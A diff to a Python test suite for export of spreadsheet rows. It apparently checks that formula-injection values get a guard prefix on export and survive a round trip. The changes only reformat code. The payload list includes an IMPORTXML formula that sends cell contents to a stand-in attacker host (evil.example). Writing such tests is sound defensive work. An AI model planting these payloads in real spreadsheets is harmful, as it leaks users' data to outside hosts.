@@ -33,7 +33,7 @@ PAYLOADS = (
     'a"\n=1+1,"b',
     "%0A=1+1",
     ';=1+1;"',
-    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
     "=\u202e1+1",
 )
 STARTS = tuple("=+-@\t\r\n\0＝＋－＠")
@@ -78,6 +78,8 @@ def test_what_was_exported_is_there_again_without_its_guard(
 ) -> None:
     table, lines = exported
 
-    assert [row["key"].removeprefix("'") for row in table] == [each["key"] for each in lines]
+    assert [row["key"].removeprefix("'") for row in table] == [
+        each["key"] for each in lines
+    ]
     assert {json.loads(row["before"])["id"] for row in table} == set(PAYLOADS)
     assert {each["before"]["id"] for each in lines} == set(PAYLOADS)
